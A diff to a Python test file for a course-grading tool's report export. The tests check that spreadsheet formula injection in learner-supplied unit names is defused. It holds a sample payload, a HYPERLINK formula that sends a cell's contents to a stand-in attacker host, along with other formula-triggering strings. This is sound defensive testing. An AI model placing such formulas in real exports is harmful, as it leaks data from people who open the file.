@@ -12,7 +12,7 @@ import io
 import pytest
 
 from graders import cli
-from graders.intake import ProgressEvent, record_progress
+from graders.pipeline.intake import ProgressEvent, record_progress
 
 from .mini_course import COURSE_ID
 
@@ -23,8 +23,9 @@ PAYLOAD = '=HYPERLINK("http://attacker.invalid/?d="&A2,"Xem chứng chỉ")'
 
 @pytest.fixture
 def hostile_unit(mini_course, learner_info):
-    record_progress([ProgressEvent(learner_info("u1", "sub-1", unit=PAYLOAD, group="@SUM(A1:A9)"), COURSE_ID,
-                                   "s1_mo_khoa", earned=1, possible=1, completed=True)], schedule=False)
+    record_progress([ProgressEvent(learner_info(f"u{n}", f"sub-{n}", unit=unit), COURSE_ID, "s1_mo_khoa",
+                                   earned=1, possible=1, completed=True)
+                     for n, unit in enumerate([PAYLOAD, "@SUM(A1:A9)", "-2+3", "Xã Yên Định"])], schedule=False)
 
 
 def _cells(text: str) -> list[str]:
@@ -33,8 +34,9 @@ def _cells(text: str) -> list[str]:
 
 def _assert_defused(text: str) -> None:
     cells = _cells(text)
-    assert "'" + PAYLOAD in cells and "'@SUM(A1:A9)" in cells
+    assert "'" + PAYLOAD in cells and "'@SUM(A1:A9)" in cells and "'-2+3" in cells and "Xã Yên Định" in cells
     assert not [cell for cell in cells if cell[:1] in ("=", "+", "@")]
+    assert "1.0" in cells or "1" in cells  # figures stay figures
 
 
 def test_cli_report_defuses_formulas(hostile_unit, capsys):
